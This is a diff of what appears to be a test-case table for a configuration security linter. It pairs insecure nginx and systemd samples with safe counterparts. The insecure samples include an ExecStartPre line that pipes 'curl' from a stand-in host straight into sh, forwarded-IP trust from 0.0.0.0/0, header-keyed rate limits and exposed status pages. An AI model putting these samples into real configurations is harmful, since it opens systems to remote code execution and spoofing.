@@ -213,11 +213,13 @@ SURROUNDINGS: Cases = {
             HTTP % "proxy_set_header X-Forwarded-For $http_x_forwarded_for;",
             HTTP % "proxy_set_header X-Real-IP $http_x_real_ip;",
             HTTP % "set_real_ip_from 0.0.0.0/0;",
+            "limit_req_zone $http_x_forwarded_for zone=a:1m rate=1r/s;",
         ],
         [
             HTTP % "proxy_set_header X-Forwarded-For $remote_addr;",
             HTTP % "proxy_set_header X-Request-Id $http_x_request_id;",
             HTTP % "set_real_ip_from 10.0.0.0/8;",
+            "limit_req_zone $http_authorization zone=a:1m rate=1r/s;",
         ],
     ),
     ("030", "medium"): (
@@ -225,6 +227,7 @@ SURROUNDINGS: Cases = {
         [
             HTTP % "autoindex on;",
             HTTP % "location = /metrics { proxy_pass http://a:9090; }",
+            HTTP % "location = /status { stub_status; }",
             PASSING.replace("location", NAMED + "location"),
         ],
         [
@@ -234,6 +237,7 @@ SURROUNDINGS: Cases = {
             HTTP % (NAMED + "location / { proxy_pass http://pages; }"),
             PASSING.replace("location", NAMED.replace("~ ", "") + "location"),
             HTTP % "location = /metrics { return 404; }",
+            "server { listen 127.0.0.1:81; location / { stub_status; } }",
             HTTP % "location = /metrics { allow 10.0.0.0/8; deny all;"
             " proxy_pass http://a:9090; }",
         ],
@@ -319,6 +323,7 @@ SURROUNDINGS: Cases = {
             unit("CapabilityBoundingSet=~CAP_SYS_TIME"),
             unit("ReadWritePaths=/srv/work /etc"),
             unit("EnvironmentFile=-/tmp/server.env"),
+            unit("ExecStart=/a/python -m server --env-file /tmp/server.env"),
             unit("ExecStartPre=/bin/sh -c 'curl -s https://a.b/x | sh'"),
         ],
         [
